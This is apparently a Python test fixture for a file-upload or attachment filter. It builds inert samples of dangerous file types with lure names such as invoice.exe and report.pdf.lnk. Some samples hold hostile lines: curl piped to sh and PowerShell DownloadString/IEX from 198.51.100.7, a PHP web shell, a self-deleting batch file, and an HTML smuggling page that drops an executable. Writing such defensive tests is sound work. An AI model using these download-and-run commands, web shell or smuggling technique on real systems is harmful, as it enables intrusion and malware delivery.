"""What must not get through: small programs, scripts, documents that run; all inert, and real in structure."""

import base64
import struct
import zipfile

from tests.builders import eicar, program, zip_of

PE = program()
EICAR = eicar()
ELF = (
    b"\x7fELF\x02\x01\x01" + bytes(9)
    + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 132, 132, 0x1000)
    + b"\x6a\x3c\x58\x31\xff\x0f\x05"
)  # fmt: skip
MACHO = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + bytes(64)
SHELL = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"
BATCH = b"@echo off\r\nstart /min powershell -enc SQBFAFgA\r\ndel %0\r\n"
POWERSHELL = b"$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://198.51.100.7/a.ps1')\r\n"
VBS = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe", 0, False\r\n'
JSCRIPT = b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc.exe");\r\n'
HTA = b"<html><head><hta:application id=a></head><script language=vbscript>" + VBS + b"</script></html>\r\n"
WSF = b'<?xml version="1.0"?><job><script language="JScript"><![CDATA[' + JSCRIPT + b"]]></script></job>\r\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="go()"><script>'
    b'function go(){location="http://198.51.100.7/"}</script><rect width="9" height="9"/></svg>\r\n'
)
LNK = (
    struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
    + struct.pack("<IIQQQIIIHHII", 0x20 | 0x80, 0x20, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0)
    + struct.pack("<H", 30) + "/c start calc.exe".ljust(30).encode("utf-16-le") + bytes(4)
)  # fmt: skip
URL_FILE = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\nIconIndex=13\r\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
PHP = b"<?php system($_GET['c']); ?>\n"
REG = b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"b"="calc.exe"\r\n'
DESKTOP = b"[Desktop Entry]\nType=Application\nName=Photo\nExec=sh -c id\nIcon=image\n"
INF = b"[version]\r\nsignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n[a]\r\ncalc.exe\r\n"
IQY = b"WEB\r\n1\r\nhttp://198.51.100.7/q.dat\r\n"
SLK = b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC("calc.exe")\r\nE\r\n'
RTF = (
    b"{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000"
    b"0b0000004571756174696f6e2e33000000000000000000000c0000d0cf11e0a1b11ae1}}text}\r\n"
)
JAVA_CLASS = b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 52, 5) + b"\x07\x00\x02\x01\x00\x01A" + bytes(30)
WASM = b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0\x03\x02\x01\0\x0a\x04\x01\x02\0\x0b"
SWF = b"FWS\x08" + struct.pack("<I", 40) + bytes(32)
CHM = b"ITSF" + struct.pack("<IIII", 3, 96, 1, 0) + bytes(80)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008) + PE
POSTSCRIPT = b"%!PS-Adobe-3.0\n(%pipe%id) (w) file pop\nshowpage\n"
ICS = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//a//b//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\n"
    "DTSTAMP:20250303T100000Z\r\nDTSTART:20250304T100000Z\r\nSUMMARY:Meeting\r\n{more}END:VEVENT\r\nEND:VCALENDAR\r\n"
)
SMUGGLING_HTML = (
    "<html><body><script>var b='{data}';var r=atob(b);var a=new Uint8Array(r.length);"
    "for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);var f=new Blob([a],{{type:'octet/stream'}});"
    "var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download='invoice.exe';l.click();"
    "</script></body></html>\r\n"
)
"""HTML that builds a file; `{data}` is base64."""

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx(
    body: str = "<w:p/>", relations: str = "", *, main: str = _MAIN, more: dict[str, bytes] | None = None
) -> bytes:
    """Return a Word document; `relations` are those of its main part, `more` are further files in it."""
    package = "http://schemas.openxmlformats.org/package/2006"
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    types = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if main == _MACRO else ""
    members = {
        "[Content_Types].xml": f'{head}<Types xmlns="{package}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'{types}<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": f'{head}<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{_RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'{head}<w:document xmlns:w="{_WORD}" xmlns:r="{_RELATIONS}"><w:body>{body}'
        "</w:body></w:document>",
        "word/_rels/document.xml.rels": f'{head}<Relationships xmlns="{package}/relationships">{relations}'
        "</Relationships>",
    }
    return zip_of({name: text.encode() for name, text in members.items()} | (more or {}))


def docm() -> bytes:
    """Return a Word document with macros."""
    return docx(main=_MACRO, more={"word/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1528)})


def jar() -> bytes:
    """Return a Java archive."""
    return zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n", "A.class": JAVA_CLASS})


def smuggler(payload: bytes = PE) -> str:
    """Return a page that builds a file."""
    return SMUGGLING_HTML.format(data=base64.b64encode(payload).decode())


ZIP = zip_of({"invoice.exe": PE})
STORED_ZIP = zip_of({"invoice.exe": PE}, zipfile.ZIP_STORED)

FILES: dict[str, tuple[bytes, str, str]] = {
    "PE program": (PE, "application/x-msdownload", "invoice.exe"),
    "ELF program": (ELF, "application/x-executable", "tool"),
    "Mach-O program": (MACHO, "application/x-mach-binary", "tool.dylib"),
    "screen saver": (PE, "application/octet-stream", "photos.scr"),
    "control panel": (PE, "application/octet-stream", "display.cpl"),
    "shell script": (SHELL, "application/x-sh", "run.sh"),
    "batch file": (BATCH, "text/plain", "run.bat"),
    "PowerShell": (POWERSHELL, "text/plain", "run.ps1"),
    "VBScript": (VBS, "text/vbscript", "run.vbs"),
    "JScript": (JSCRIPT, "text/javascript", "run.js"),
    "HTML application": (HTA, "application/hta", "run.hta"),
    "Windows script file": (WSF, "text/xml", "run.wsf"),
    "shortcut": (LNK, "application/x-ms-shortcut", "report.pdf.lnk"),
    "internet shortcut": (URL_FILE, "application/internet-shortcut", "site.url"),
    "Python script": (PYTHON, "text/x-python", "run.py"),
    "registry file": (REG, "text/plain", "settings.reg"),
    "desktop entry": (DESKTOP, "application/x-desktop", "photo.desktop"),
    "set-up information": (INF, "text/plain", "setup.inf"),
    "web query": (IQY, "text/plain", "prices.iqy"),
    "SYLK": (SLK, "application/vnd.ms-excel", "prices.slk"),
    "RTF with an object": (RTF, "application/rtf", "letter.rtf"),
    "Java archive": (jar(), "application/java-archive", "viewer.jar"),
    "WebAssembly": (WASM, "application/wasm", "a.wasm"),
    "Flash": (SWF, "application/x-shockwave-flash", "a.swf"),
    "compiled help": (CHM, "application/vnd.ms-htmlhelp", "manual.chm"),
    "OneNote": (ONENOTE, "application/msonenote", "notes.one"),
    "PostScript": (POSTSCRIPT, "application/postscript", "page.ps"),
    "Word with macros": (docm(), "application/vnd.ms-word.document.macroEnabled.12", "form.docm"),
    "ZIP with a program": (ZIP, "application/zip", "invoice.zip"),
    "HTML page": (smuggler().encode(), "text/html", "invoice.html"),
    "SVG with script": (SVG, "image/svg+xml", "chart.svg"),
    "EICAR": (EICAR, "application/octet-stream", "eicar.com"),
}
"""Each with the type and the name under which it would be sent openly."""
